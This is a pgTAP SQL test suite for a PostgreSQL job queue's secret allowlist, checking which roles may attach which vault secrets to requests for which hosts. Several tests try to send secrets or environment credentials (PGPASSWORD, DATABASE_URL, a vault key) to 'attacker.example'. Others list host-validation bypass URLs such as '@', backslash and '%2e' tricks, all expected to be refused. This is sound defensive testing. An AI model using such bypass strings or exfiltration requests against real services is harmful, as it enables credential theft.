begin;
select plan(61);
select vault.create_secret('one-value', 'one'), vault.create_secret('two-value', 'two'), vault.create_secret('https://edge.example/', 'consumer_edge_base'),
       vault.create_secret('role-value', 'service_role');
create role secret_app in role queues_enqueuer;
create role secret_other in role queues_enqueuer;
create function pg_temp.http(_url text, _secret text, _type text default 'http') returns text language sql
as $$ select format('select queues.enqueue(%L, %L)', _type, jsonb_build_object('request', jsonb_build_object('url', _url,
          'secret_headers', jsonb_build_object('X', jsonb_build_object('secret', _secret))))) $$;
create function pg_temp.signed(_url text, _secret text) returns text language sql
as $$ select format('select queues.enqueue(''http'', %L)', jsonb_build_object('request', jsonb_build_object('url', _url, 'method', 'POST',
          'sign', jsonb_build_object('secret', _secret)))) $$;
create function pg_temp.job(_url text, _vault text) returns text language sql
as $$ select format('insert into pgqueue.job_queue (url, payload, signing_vault) values (%L, ''{}'', %L)', _url, _vault) $$;
create function pg_temp.given(_task bigint) returns jsonb language sql volatile
as $$ select d.secrets from test.lease(_task) as l, queues.begin_dispatch(test.worker(), _task, l) as d $$;
create function pg_temp.last_task() returns bigint language sql volatile as $$ select max(task_id) from queues.task $$;

-- Without a record.
select is(test.sqlstate_as('secret_app', pg_temp.http('https://attacker.example/', n)), '42501', 'a header: ' || n)
from unnest(array['one', 'REEVE_VAULT_KEY', 'DATABASE_URL', 'REEVE_DATABASE_URL', 'PGPASSWORD', 'no_such', 'service_role', 'consumer_edge_base', 'SERVICE-ROLE']) as n;
select is(test.sqlstate_as('secret_app', pg_temp.signed('https://attacker.example/', n)), '42501', 'a signature of a task: ' || n)
from unnest(array['one', 'REEVE_VAULT_KEY', 'service_role']) as n;
select is(test.sqlstate_as('secret_app', pg_temp.job('https://anybody.example/', 'one')), '00000', 'a job may sign with the vault');
select is(pg_temp.given(pg_temp.last_task()), '{"job": true, "named": {"one": "one-value"}}', 'and is given that secret');
select is(test.sqlstate_as('secret_app', pg_temp.job('https://anybody.example/', 'REEVE_VAULT_KEY')), '00000', 'what the vault does not have');
select is(pg_temp.given(pg_temp.last_task()), '{"job": true, "named": {}}', 'is not looked for in the environment');
select is(test.sqlstate_as('secret_app', pg_temp.job('https://anybody.example/', n)), '42501', 'and never signs: ' || n)
from unnest(array['service_role', 'consumer_edge_base', 'Service_Role', 'consumer-edge-base']) as n;

-- With one.
select internal.allow_secret('one', array['api.example.com', '*.trusted.example:8443', '[::1]:3000'], array['secret_app'], array['header']);
select is(test.sqlstate_as('secret_app', pg_temp.http(u, 'one')), '00000', 'goes to ' || u)
from unnest(array['https://api.example.com/x', 'https://API.example.com', 'https://api.example.com:443/?a', 'https://a.trusted.example:8443/', 'http://[::1]:3000/']) as u;
select is(test.sqlstate_as('secret_app', pg_temp.http(u, 'one')), '42501', 'does not go to ' || u)
from unnest(array['http://api.example.com/', 'https://api.example.com:8443/', 'https://api.example.com.evil.example/', 'https://evil.example/#api.example.com',
    'https://api.example.com@evil.example/', 'https://api.example.com\@evil.example/', 'https://evil.example\@api.example.com/', 'https://api.example.com%2eevil.example/', 'https://trusted.example:8443/', 'https://xtrusted.example:8443/',
    'https://a.trusted.example/', '/edge', 'api.example.com', 'https://evil.example/https://api.example.com/']) as u;
select is(test.sqlstate_as('secret_other', pg_temp.http('https://api.example.com/', 'one')), '42501', 'another role may not name it');
select is(test.sqlstate_as('secret_app', pg_temp.signed('https://api.example.com/', 'one')), '42501', 'nor is it for signing');
select is(test.sqlstate_as('secret_app', pg_temp.job('https://api.example.com/', 'one')), '42501', 'not of a job either');
select throws_ok($$select internal.allow_secret('service_role', '{x}', '{queues_admin}')$$, '22023', 'secret "service_role" serves edge functions and nothing else', 'the secrets of edge functions have none');
select throws_ok($$select internal.allow_secret('one', '{*}', '{queues_admin}')$$, '22023', null, 'a value goes not everywhere');
select throws_ok($$select internal.allow_secret('one', '{x}', '{no_such_role_x}')$$, '42704', null, 'roles exist');
select is((select count(*) from queues.audit where action = 'allow_secret' and object = 'one'), 1::bigint, 'it is written down who said so');
select is_empty($$select r from unnest(array['secret_app', 'queues_operator', 'worker_service_user']) as r
    where test.sqlstate_as(r, $x$select internal.allow_secret('two', '{x}', '{queues_admin}')$x$) <> '42501'$$, 'administrators do');

-- Wherever a task is made or changed.
select is(test.sqlstate_as('secret_other', $$select queues.enqueue_many('http', array['{"request": {"url": "https://api.example.com/", "secret_headers": {"X": {"secret": "one"}}}}'::jsonb])$$), '42501', 'many at once');
select queues.enqueue('http', '{"request": {"url": "https://api.example.com/"}}', now() + interval '1 day', _dedup_key => 'k') as waits \gset
select is(test.sqlstate_as('secret_other', $$select queues.enqueue('http', '{"request": {"url": "https://api.example.com/", "secret_headers": {"X": {"secret": "one"}}}}', _dedup_key => 'k', _dedup_policy => 'merge')$$), '42501', 'a merge');
select is(test.sqlstate_as('secret_other', $$select queues.enqueue('noop', '{"request": {"url": "https://api.example.com/", "secret_headers": {"X": {"secret": "one"}}}}', _queue => 'http', _dedup_key => 'k', _dedup_policy => 'merge')$$), '22023', 'a merge of another type');
select is(test.sqlstate_as('secret_app', $$select queues.enqueue('http', '{"request": {"url": "https://api.example.com/", "secret_headers": {"X": {"secret": "one"}}}}', _dedup_key => 'k', _dedup_policy => 'merge')$$), '00000', 'by whom it may');
select is(test.sqlstate_as('secret_other', $$select queues.enqueue('http', '{"more": 1}', _dedup_key => 'k', _dedup_policy => 'merge')$$), '42501', 'who may not name it does not change what does');
select is(test.sqlstate_as('secret_other', $$select queues.enqueue('http', '{"request": {"url": "https://x/", "base": "consumer_edge_base"}}')$$), '22023', 'a base is not for a task to name');

-- When it is sent: the record as it is now.
select queues.enqueue('http', '{"request": {"url": "https://api.example.com/", "secret_headers": {"X": {"secret": "one"}}}}') as kept \gset
select queues.enqueue('http', '{"request": {"url": "https://api.example.com/", "secret_headers": {"X": {"secret": "one"}}}}') as late \gset
select is(pg_temp.given(:kept), '{"named": {"one": "one-value"}}', 'given');
select internal.allow_secret('one', array['elsewhere.example'], array['secret_app']);
select is(pg_temp.given(:late), '{"problem": "secret \"one\" may not be used for \"api.example.com:443\""}', 'not any more');
-- A before handler is registered code: no role is asked, but the host.
select internal.allow_secret('env_only', array['api.example.com'], array['secret_app']);
select queues.enqueue('http', '{"before_handler": "test.before", "before": "answer", "answer": {"status": "succeeded", "payload": {"url": "https://api.example.com/", "secret_headers": {"X": {"secret": "env_only"}}}}}') as handled \gset
select is(pg_temp.given(:handled), '{"named": {"env_only": null}}', 'a recorded secret may come from the environment');
select queues.enqueue('http', '{"before_handler": "test.before", "before": "answer", "answer": {"status": "succeeded", "payload": {"url": "https://evil.example/", "secret_headers": {"X": {"secret": "env_only"}}}}}') as handled \gset
select is(pg_temp.given(:handled), '{"problem": "secret \"env_only\" may not be used for \"evil.example:443\""}', 'but for its hosts only');
-- Strict: signing has a record too.
update internal.config set value = 'true' where key = 'strict';
select is(test.sqlstate_as('secret_app', pg_temp.job('https://anybody.example/', 'two')), '42501', 'strict: no record, no signature');
select internal.allow_secret('two', array['*'], array['secret_app'], array['sign']);
select is(test.sqlstate_as('secret_app', pg_temp.job('https://anybody.example/', 'two')), '00000', 'strict: with one');
select is(internal.revoke_secret('two'), true, 'taken back');
select is(pg_temp.given(pg_temp.last_task()), '{"job": true, "problem": "secret \"two\" has no record of where it may go (internal.allow_secret)"}', 'it counts at once');
select * from finish();
rollback;
